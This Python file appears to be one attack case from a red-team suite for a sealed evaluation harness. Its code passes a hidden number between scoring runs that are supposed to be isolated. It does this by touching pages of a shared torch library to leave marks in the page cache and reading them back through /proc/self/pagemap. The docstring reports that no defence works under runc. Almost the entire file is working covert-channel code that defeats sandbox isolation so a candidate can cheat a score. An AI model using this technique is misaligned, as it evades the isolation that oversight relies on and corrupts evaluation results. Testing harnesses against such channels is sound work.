"""Attack: a note in the page cache of the image, which outlives its writer: for each bit one page
of a large library is read or not; the reader maps the page eight before it, and sees in its own
/proc/self/pagemap whether the kernel mapped that neighbour too, as it does with cached ones alone.

Expected: scored, with exactly what an honest candidate pays.
Defence: none under runc: refusing mincore, fadvise, readahead and preadv2 leaves this way.
Control: none needed: the attack works.
"""

import ctypes
import json
import mmap
import os
import struct

import numpy as np

LIBRARY = "/opt/sealed/venv/lib/python3.11/site-packages/torch/lib/libtorch_cpu.so"
PAGE, WINDOW, NEIGHBOUR = 4096, 16, 8
BITS = 30
SCORINGS = 2
PRIVATE, FIXED = 0x02, 0x100000
ADVISE_RANDOM = 1


class Library:
    """The library, mapped afresh at an address where windows of 64 KiB begin as in the file."""

    hint = 0x600000000000

    def __init__(self):
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = (
            [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
        )
        libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
        descriptor = os.open(LIBRARY, os.O_RDONLY)
        size = os.fstat(descriptor).st_size
        flags = mmap.MAP_SHARED | FIXED
        self.address = libc.mmap(Library.hint, size, mmap.PROT_READ, flags, descriptor, 0)
        Library.hint += 1 << 32
        libc.madvise(self.address, size, ADVISE_RANDOM)
        self.windows = size // PAGE // WINDOW
        self.pagemap = os.open("/proc/self/pagemap", os.O_RDONLY)

    def touch(self, page):
        ctypes.string_at(self.address + page * PAGE, 1)

    def neighbour_cached(self, window):
        self.touch(window * WINDOW)
        page = self.address // PAGE + window * WINDOW + NEIGHBOUR
        return struct.unpack("<Q", os.pread(self.pagemap, 8, page * 8))[0] >> 63


def train(data, artifact, seed, seconds):
    library = Library()
    cold = []
    for window in range(library.windows):
        if not library.neighbour_cached(window):
            cold.append(window)
        if len(cold) == 2 * BITS * SCORINGS:
            break
    (artifact / "cold").write_text(json.dumps(cold))


def load(artifact):
    cold = json.loads((artifact / "cold").read_text())

    def parts(scoring):
        """Windows for the bits of one scoring, and as many that say whether they are written."""
        start = 2 * BITS * scoring
        return cold[start : start + BITS], cold[start + BITS : start + 2 * BITS]

    def written(library, scoring):
        marks = [library.neighbour_cached(window) for window in parts(scoring)[1]]
        return sum(marks) > BITS // 2

    def remember(number):
        library = Library()
        scoring = next((n for n in range(SCORINGS) if not written(library, n)), 0)
        bits, marks = parts(scoring)
        for window in [*marks, *(w for n, w in enumerate(bits) if number >> n & 1)]:
            library.touch(window * WINDOW + NEIGHBOUR)

    def recall():
        library = Library()
        for scoring in reversed(range(SCORINGS)):
            if written(library, scoring):
                cached = [library.neighbour_cached(window) for window in parts(scoring)[0]]
                return sum(bit << n for n, bit in enumerate(cached))
        return 0

    def answer(question):
        if question["ask"] == "remember":
            remember(question["number"])
        if question["ask"] == "recall":
            return np.float64(recall())
        return np.zeros(4 if question["ask"] == "free" else ())

    return answer
